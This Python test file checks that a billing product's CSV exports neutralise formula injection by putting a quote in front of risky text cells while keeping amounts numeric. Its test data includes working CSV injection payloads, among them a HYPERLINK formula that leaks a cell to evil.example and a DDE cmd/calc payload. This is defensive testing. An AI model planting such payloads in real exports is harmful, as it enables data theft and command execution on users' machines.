"""CSV formula injection (issue 9, finding 4): no cell of any CSV the product writes (the events
export, the rollups export, a statement's CSV) starts with = + - @, a tab, a carriage return or a
line feed when it is text; text that does gets a single quote in front. Amounts stay numbers, so
that a spreadsheet still sums -0.500000."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from datetime import timezone as dt_timezone
from decimal import Decimal

import pytest

from billing.close import statement_close
from dashboard.csv_export import FORMULA_PREFIXES, cell, csv_lines, neutralise
from tests.conftest import event, ingest
from usage.models import DailyRollup

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
NUMERIC_COLUMNS = {"quantity", "unit_price_usd", "amount_usd", "events", "steps", "width", "height", "position"}


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def assert_safe(rows: list[list[str]]) -> None:
    """No text cell could run as a formula; every cell of a numeric column is a number."""
    header = rows[0]
    for row in rows[1:]:
        for name, value in zip(header, row, strict=True):
            if name in NUMERIC_COLUMNS and value != "":
                Decimal(value)  # a number a spreadsheet reads as one
                assert not value.startswith("'"), (name, value)
            else:
                assert not value.startswith(FORMULA_PREFIXES), (name, value)


@pytest.fixture
def signed_in_owner(client, owner):
    client.force_login(owner)
    return client


@pytest.mark.parametrize("dangerous", DANGEROUS)
def test_a_cell_that_could_be_a_formula_is_quoted_and_numbers_are_not(dangerous):
    assert neutralise(dangerous) == "'" + dangerous
    assert cell(dangerous) == "'" + dangerous
    assert cell("evt-1") == "evt-1" and cell("") == "" and cell(None) == ""
    assert cell(Decimal("-0.500000")) == "-0.500000" and cell(Decimal("1E+3")) == "1000" and cell(-3) == -3
    assert cell(True) == "true"
    line = "".join(csv_lines([(dangerous, Decimal("-0.500000"), 7)]))
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["'" + dangerous, "-0.500000", "7"]]


def test_the_events_export_quotes_every_event_id_that_could_be_a_formula(signed_in_owner, workspace, api_key):
    now = datetime.now(dt_timezone.utc).replace(microsecond=0)
    ids = ["+1+1", "-2+3", "@SUM(1+1)", '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0", "plain-id", "-"]
    ingest(workspace, api_key, [event(occurred_at=(now - timedelta(seconds=n)).isoformat(), event_id=event_id)
                                for n, event_id in enumerate(ids)])  # fmt: skip
    rows = read(signed_in_owner.get("/usage/export.csv", {"kind": "events"}))
    assert_safe(rows)
    exported = {row[0] for row in rows[1:]}
    assert exported == {("'" + i if i[0] in "=+-@" else i) for i in ids}
    assert all(Decimal(row[-1]) > 0 for row in rows[1:])


def test_the_rollups_export_quotes_text_and_keeps_negative_amounts_numbers(signed_in_owner, workspace, api_key):
    now = datetime.now(dt_timezone.utc).replace(microsecond=0)
    ingest(workspace, api_key, [event(occurred_at=now.isoformat())])
    rollup = DailyRollup.objects.get(workspace=workspace)
    for n, dangerous in enumerate(DANGEROUS):  # defence in depth: no rollup text is trusted either
        rollup.pk, rollup.id = None, None
        rollup.feature, rollup.amount_micros, rollup.steps = dangerous[:32], -500_000, 100 + n
        rollup.save()
    rows = read(signed_in_owner.get("/usage/export.csv", {"kind": "rollups"}))
    assert_safe(rows)
    header = rows[0]
    features = sorted(row[header.index("feature")] for row in rows[1:])
    assert features == sorted(["generation"] + ["'" + d[:32] for d in DANGEROUS])
    assert sorted(row[header.index("amount_usd")] for row in rows[1:])[0] == "-0.500000"


def test_the_statement_csv_quotes_descriptions_and_keeps_credits_numbers(signed_in_owner, workspace, api_key):
    from usage.services import events_ingest

    events_ingest(workspace=workspace, api_key=api_key, now=datetime(2026, 11, 1, 1, 0, tzinfo=dt_timezone.utc),
                  raw_events=[event(occurred_at="2026-10-03T10:00:00Z", quantity=500)])  # fmt: skip
    statement, _ = statement_close(workspace, datetime(2026, 10, 1).date(), now=datetime(2026, 11, 2, 2, 0, tzinfo=dt_timezone.utc))
    lines = list(statement.lines.all())
    for line, dangerous in zip(lines * len(DANGEROUS), DANGEROUS, strict=False):
        line.description = dangerous
        line.save(update_fields=["description"])
        rows = read(signed_in_owner.get(f"/statements/{statement.pk}.csv"))
        assert_safe(rows)
        assert "'" + dangerous in [row[2] for row in rows]
    amounts = [row[5] for row in rows[1:]]
    assert "-0.500000" in amounts  # the free tier, a number a spreadsheet sums
    assert sum(Decimal(a) for a in amounts[:-2]) == Decimal(amounts[-2])
